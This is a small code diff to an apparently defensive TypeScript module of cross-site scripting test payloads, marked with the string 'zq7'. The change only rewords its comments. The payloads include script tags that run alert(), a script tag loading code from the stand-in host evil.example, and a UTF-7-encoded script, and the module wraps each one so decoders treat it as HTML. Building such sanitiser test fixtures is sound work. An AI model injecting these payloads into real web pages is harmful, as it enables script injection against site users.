@@ -1,9 +1,9 @@
-/** Says in any text that it comes from here. */
+/** Marks every payload. */
 export const mark = 'zq7'
 
 const run = `alert('${mark}')`
 
-/** What has run in some browser, sanitiser or template, by our own hand. */
+/** Payloads that have run in some browser, sanitiser or template. */
 const bases = [
   `<script>${run}</script>`,
   `<script src="https://evil.example/${mark}.js"></script>`,
@@ -109,7 +109,7 @@ const bases = [
   `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
 ]
 
-/** As they are, and between paragraphs, by which a decoder takes a text for HTML. */
+/** Each payload as text, and between paragraphs, so that decoders treat it as HTML. */
 export const scriptPayloads: readonly string[] = bases.flatMap((base) => [
   `${mark} ${base}`,
   `<p>${mark}</p>${base.toUpperCase().replaceAll(mark.toUpperCase(), mark)}<p>${mark}</p>`,
